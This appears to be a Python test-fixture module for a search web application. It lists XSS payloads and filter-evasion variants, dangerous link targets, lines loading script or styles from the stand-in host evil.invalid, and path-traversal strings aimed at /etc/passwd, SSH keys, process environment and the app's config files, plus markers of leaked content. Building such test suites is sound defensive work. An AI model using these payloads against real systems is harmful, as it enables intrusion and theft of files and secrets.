"""What strangers write who want a script to run, and where they want to go: strings for tests, each with a mark.

A payload that worked would set `window.__xss`, open a dialog, or send a request to `evil.invalid`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.__xss=1"
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onbegin", "onclick")
_TAGS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<input autofocus {}>",
    "<details open {}>",
    "<video src=x {}>",
    "<svg><animate attributeName=x dur=1s {}></svg>",
    "<math {}>",
    "<x contenteditable tabindex=1 {}>",
    "<iframe src=x {}></iframe>",
)
_BREAKS = (
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</a>",
    "`",
    '"/>',
    "</h1>",
)
_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    "<script src=//evil.invalid/x.js></script>",
    "<script src=data:,window.__xss=1></script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\u003cscript\u003e{RUN}\u003c/script\u003e",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<object data=data:text/html,<script>parent.__xss=1</script>></object>",
    "<embed src=javascript:window.__xss=1>",
    "<form action=javascript:window.__xss=1><button autofocus>x</button></form>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<img src=//evil.invalid/x.png>",
    "<a href=javascript:window.__xss=1 autofocus>x</a>",
    "<x xmlns:x='http://www.w3.org/1999/xhtml'><x:script>window.__xss=1</x:script></x>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "＜script＞window.__xss=1＜/script＞",
    "{{constructor.constructor('window.__xss=1')()}}",
    "{{ 7*7 }}{% print(config) %}",
    "${window.__xss=1}",
    "#{window.__xss=1}",
    "<!--><script>window.__xss=1</script>-->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<?xml version='1.0'?><script>window.__xss=1</script>",
    "\u202e<script>window.__xss=1</script>\u202c",
    "\u2028<script>window.__xss=1</script>",
    "\ufeff<script>window.__xss=1</script>",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    "<mark onpointerenter=window.__xss=1>x</mark>",
    "<mark><script>window.__xss=1</script></mark>",
    "\x1b]8;;javascript:window.__xss=1\x07x\x1b]8;;\x07",
)
TARGETS = (
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "java\nscript:window.__xss=1",
    "javascript&colon;window.__xss=1",
    "javascript&#58;window.__xss=1",
    "javascript%3Awindow.__xss=1",
    "\x01javascript:window.__xss=1",
    "javascript://example.org/%0awindow.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=window.__xss=1>",
    "vbscript:window.__xss=1",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "ftp://example.org/",
    "tel:1",
    "about:blank",
    "view-source:http://example.org",
    "//evil.invalid/",
    "\\\\evil.invalid\\x",
    "/\\evil.invalid/",
    "https:evil.invalid",
    'http://example.org/" onpointerenter="window.__xss=1',
    "http://example.org/'><script>window.__xss=1</script>",
    "feed:javascript:window.__xss=1",
    "jar:http://example.org!/x",
    "intent://x#Intent;end",
    "?q=<script>window.__xss=1</script>",
)
"""Where links lead: none of them is http, https or mailto as it stands, or it holds a way out of the attribute."""
HARMLESS = ("https://example.org/a?b=1&c=2", "http://example.org/", "mailto:someone@example.org")


def payloads() -> Iterator[str]:
    """Every payload, without repetition."""
    yield from dict.fromkeys((*_SCRIPTS, *(f"{end}<img src=x onerror={RUN}>" for end in _BREAKS), *_with_events()))


def _with_events() -> Iterator[str]:
    for tag, event in product(_TAGS, _EVENTS):
        yield tag.format(f"{event}={RUN}")
    for end, event in product(('"', "'"), _EVENTS):
        yield f"{end} autofocus tabindex=1 {event}={end}{RUN}"


CLIMBS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..;/..;/etc/passwd",
    "..\\..\\..\\etc\\passwd",
    "..%5c..%5cetc%5cpasswd",
    "..%255c..%255cetc",
    "/etc/passwd",
    "//etc/passwd",
    "%2fetc%2fpasswd",
    "file:///etc/passwd",
    "C:\\Windows\\win.ini",
    "C:%5cWindows%5cwin.ini",
    "\\\\host\\share",
    "..%00/etc/passwd",
    "001%00.txt",
    "%00",
    "x/../../../etc/passwd",
    "./../searchapp.toml",
    "../searchapp.toml",
    "searchapp.toml",
    "actors.toml",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "%e0%80%ae%e0%80%ae/etc/passwd",
    "．．/．．/etc/passwd",
    "..%u2215..%u2215etc",
    "~/.ssh/id_rsa",
    "~root/.bashrc",
    "../index/CURRENT",
    "..%2findex%2fCURRENT",
    "../pyproject.toml",
    "../searchapp/settings.py",
    "../../templates/base.html",
    "%2e%2e%2fserver.py",
    "/proc/self/environ",
    "..//..//..//proc/self/environ",
    ".%2e/.%2e/.%2e/proc/self/cmdline",
    "..%0a/..%0a/etc/passwd",
    "%ff%fe",
    "..././..././etc/passwd",
)
"""Ways out of a folder."""
SECRETS = (
    "root:x:0:0",
    "[build-system]",
    "PATH=",
    "gen-1 ",
    "dataclass",
    "[[actor]]",
    "{% block",
    "for 16-bit app support",
)
"""What is found where they lead, of which no answer may show any."""
